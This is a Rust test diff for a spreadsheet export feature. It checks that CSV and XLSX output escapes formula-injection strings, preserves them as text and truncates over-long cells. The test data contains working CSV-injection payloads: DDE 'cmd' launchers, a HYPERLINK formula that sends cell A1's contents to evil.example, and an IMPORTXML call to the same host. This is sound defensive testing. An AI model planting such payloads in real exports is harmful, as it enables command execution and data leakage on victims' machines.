@@ -1,0 +1,96 @@
+//! What hostile texts become on their way out, and that they can be had back.
+
+use std::io::Cursor;
+
+use calamine::{DataRef, Reader, Xlsx};
+
+use super::*;
+
+/// Texts that spreadsheets have been made to run, and some that only look alike.
+const TEXTS: [&str; 24] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Bấm vào đây\")",
+    "=IMPORTXML(\"http://evil.example\",\"//a\")",
+    "+84 251 3822 501",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "   =1+1",
+    "\u{a0}\u{200b}=1+1",
+    "\u{feff}@SUM(A1)",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "'=1+1",
+    "'",
+    "",
+    "\"=1+1\",\"=2+2\"",
+    "rất hài lòng, \"quầy 3\"\r\ndòng hai",
+    "a=b",
+    "{\"name\":\"=1+1\"}",
+];
+
+fn table() -> Table {
+    let row = |text: &&str| vec![Cell::Whole(-7), Cell::text(*text)];
+    Table {
+        name: "bang".to_owned(),
+        head: vec!["Số", "Nội dung"],
+        rows: TEXTS.iter().map(row).collect(),
+    }
+}
+
+#[test]
+fn a_csv_has_its_mark_its_line_ends_and_every_text_can_be_had_back() {
+    let bytes = table().csv().unwrap();
+    let text = String::from_utf8(bytes).unwrap();
+    let rest = text.strip_prefix("\u{feff}Số,Nội dung\r\n").expect("the mark and the head");
+    assert!(rest.ends_with("\r\n"));
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(rest.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), TEXTS.len());
+    for (row, text) in rows.iter().zip(TEXTS) {
+        assert_eq!(&row[0], "-7", "a number stays a number");
+        assert_eq!(row[1].strip_prefix('\'').unwrap_or(&row[1]), text, "as it was: {row:?}");
+    }
+}
+
+#[test]
+fn no_text_in_a_csv_begins_like_a_formula() {
+    let quoted: Vec<bool> = TEXTS.iter().map(|text| Cell::text(*text).in_csv() != *text).collect();
+    let (hostile, harmless) = quoted.split_at(19);
+    assert!(hostile.iter().all(|quoted| *quoted), "{hostile:?}");
+    assert!(harmless.iter().all(|quoted| !quoted), "{harmless:?}");
+}
+
+#[test]
+fn a_workbook_holds_texts_as_texts_and_no_formula_at_all() {
+    let bytes = table().xlsx().unwrap();
+    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
+    assert!(book.worksheet_formula("Sheet1").unwrap().is_empty());
+    let mut cells = book.worksheet_cells_reader("Sheet1").unwrap();
+    let mut texts = Vec::new();
+    while let Some(cell) = cells.next_cell().unwrap() {
+        match (cell.get_position(), cell.get_value()) {
+            ((0, _), _) => {}
+            ((_, 0), DataRef::Float(number)) => assert_eq!(*number, -7.0),
+            ((_, 1), DataRef::SharedString(text)) => texts.push((*text).to_owned()),
+            other => panic!("neither a number nor a text: {other:?}"),
+        }
+    }
+    // An empty text is no cell, and XML knows one kind of line end.
+    let wanted = TEXTS.iter().filter(|text| !text.is_empty()).map(|text| text.to_string());
+    assert_eq!(texts, wanted.collect::<Vec<_>>());
+}
+
+#[test]
+fn a_text_too_long_for_a_cell_is_cut_with_a_sign() {
+    assert_eq!(short(&"a".repeat(MOST_TEXT)).len(), MOST_TEXT);
+    let cut = short(&"😀".repeat(MOST_TEXT));
+    assert!(cut.ends_with('…') && cut.encode_utf16().count() <= MOST_TEXT + 1);
+    let long = Table { rows: vec![vec![Cell::text("ệ".repeat(40_000))]], ..table() };
+    assert!(long.xlsx().is_ok());
+}
